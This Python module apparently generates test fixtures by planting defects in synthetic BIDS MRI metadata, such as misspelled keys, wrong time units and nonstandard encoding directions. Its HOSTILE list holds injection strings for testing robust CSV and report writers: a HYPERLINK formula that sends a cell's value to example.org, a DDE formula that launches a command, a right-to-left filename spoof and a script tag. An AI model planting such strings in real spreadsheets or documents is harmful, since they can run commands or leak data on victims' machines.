"""Defects of acquisition parameters and of text, planted as in ``plant_values``."""

from __future__ import annotations

import numpy as np

from flows.demo.corpus.chance import pick
from flows.demo.corpus.images import Image
from flows.demo.corpus.model import Document
from flows.demo.corpus.plant_values import Detail, Found, get, put
from flows.demo.corpus.schedule import FIELD_CAST_UNTIL

MISSPELLED = (
    ("ManufacturersModelName", "ManufacturerModelName"),
    ("ParallelReductionFactorInPlane", "ParallelReductionFactorInPlan"),
    ("FlipAngle", "FLipAngle"),
    ("InPlanePhaseEncodingDirection", "InplanePhaseEncodingDirection"),
    ("RepetitionTime", "repetitionTime"),
    ("RepetitionTime", "RepetitonTime"),
    ("MagneticFieldStrength", "MagneticFieldStrenght"),
    ("EchoTime", "EchoTme"),
)
"""Key as BIDS spells it, and how somebody spells it. The first three are what the service is known to hold."""

LETTERS = {
    "letters": {"j-": "AP", "j": "PA", "i": "LR", "i-": "RL"},
    "axis": {"j-": "y-", "j": "y", "i": "x", "i-": "x-"},
    "lower case": {"j-": "ap", "j": "pa", "i": "lr", "i-": "rl"},
    "arrow": {"j-": "A>>P", "j": "P>>A", "i": "L>>R", "i-": "R>>L"},
}
"""Ways to write a phase encoding direction that are not BIDS' (of images in the orientation RAS)."""
_SLICE_AXES = {"k": "z", "k-": "z-"}

HOSTILE = (
    '=HYPERLINK("http://example.org/?x="&A1,"open")',
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "@here, \"quoted\", and 'so on'; \\ too",
    "-2+3\tafter a tab",
    "first line\nsecond line\r\nthird",
    "cut\x00here",
    "right to left: \u202egnp.exe\u202c \u05e8\u05d0\u05e9",
    "\U0001f9e0 T1 \U0001f468\u200d\u2695\ufe0f e\u0301",
    "<script>alert('x')</script>",
    "\ufeffbyte order mark, NaN, NULL",
)
"""Texts that break careless writers of CSV, spreadsheets, reports and terminals."""

SCANNER = ("Manufacturer", "ManufacturersModelName", "ImagingFrequency", "SoftwareVersions")
"""Parameters that tell, or help to tell, a scanner's field."""

LEAST_TR = 0.05
"""Seconds. A shorter repetition time in milliseconds could be one in seconds."""


def misspelled_key(
    document: Document, image: Image, rng: np.random.Generator, name: str, sent_key: str
) -> Detail:
    """The BIDS key ``name``, misspelled by whoever wrote the sidecar."""
    meta = document["bids_meta"]
    if name not in meta:
        return None
    del meta[name]
    # As the sidecar has it: the service cut the field to an integer under its right name only.
    meta[sent_key] = image.meta[name]
    return {"column": f"bids_meta.{name}", "true": image.meta[name], "sent": None, "sent_key": sent_key}


def unnamed_scanner(document: Document, image: Image, rng: np.random.Generator, cast: int) -> Detail:
    """Nothing tells the field of a scanner whose field the service cut to ``cast``."""
    true = image.meta.get("MagneticFieldStrength")
    if true is None or true == cast or int(true) != cast or image.sent >= FIELD_CAST_UNTIL:
        return None
    meta = document["bids_meta"]
    missing = [name for name in SCANNER if name in meta]
    for name in missing:
        del meta[name]
    return {"missing": missing} if missing else None


def milliseconds(document: Document, image: Image, rng: np.random.Generator, names: tuple[str, ...]) -> Found:
    """Times in milliseconds where BIDS has seconds; no repetition time below :data:`LEAST_TR`."""
    true = {f"bids_meta.{name}": get(document, f"bids_meta.{name}") for name in names}
    if None in true.values() or true.get("bids_meta.RepetitionTime", LEAST_TR) < LEAST_TR:
        return None
    return [put(document, column, round(seconds * 1000, 6)) for column, seconds in true.items()]


def echo_spacing_unit(document: Document, image: Image, rng: np.random.Generator, factor: int) -> Detail:
    """``EffectiveEchoSpacing`` in milliseconds or microseconds, ``factor`` of which make a second."""
    true = get(document, "bids_meta.EffectiveEchoSpacing")
    return None if true is None else put(document, "bids_meta.EffectiveEchoSpacing", round(true * factor, 6))


def imaging_frequency_hz(document: Document, image: Image, rng: np.random.Generator) -> Detail:
    """``ImagingFrequency`` in hertz where DICOM and BIDS have megahertz."""
    true = get(document, "bids_meta.ImagingFrequency")
    return None if true is None else put(document, "bids_meta.ImagingFrequency", round(true * 1e6))


def phase_encoding_letters(document: Document, image: Image, rng: np.random.Generator, style: str) -> Detail:
    """``PhaseEncodingDirection`` in letters that BIDS does not have: a key of :data:`LETTERS`."""
    true = get(document, "bids_meta.PhaseEncodingDirection")
    return None if true is None else put(document, "bids_meta.PhaseEncodingDirection", LETTERS[style][true])


def encoding_list(document: Document, image: Image, rng: np.random.Generator) -> Detail:
    """``PhaseEncodingDirection`` as a list of one."""
    true = get(document, "bids_meta.PhaseEncodingDirection")
    return None if true is None else put(document, "bids_meta.PhaseEncodingDirection", [true])


def slice_encoding(document: Document, image: Image, rng: np.random.Generator, listed: bool) -> Detail:
    """``SliceEncodingDirection`` by the axis' name, or ``listed`` as the only one."""
    true = get(document, "bids_meta.SliceEncodingDirection")
    if true is None:
        return None
    return put(document, "bids_meta.SliceEncodingDirection", [true] if listed else _SLICE_AXES[true])


def hostile_text(document: Document, image: Image, rng: np.random.Generator) -> Detail:
    """Text that breaks careless writers and readers."""
    key = pick(rng, ("ProtocolName", "InstitutionName", "SequenceName", "StudyComment"))
    return put(document, f"bids_meta.{key}", pick(rng, HOSTILE))
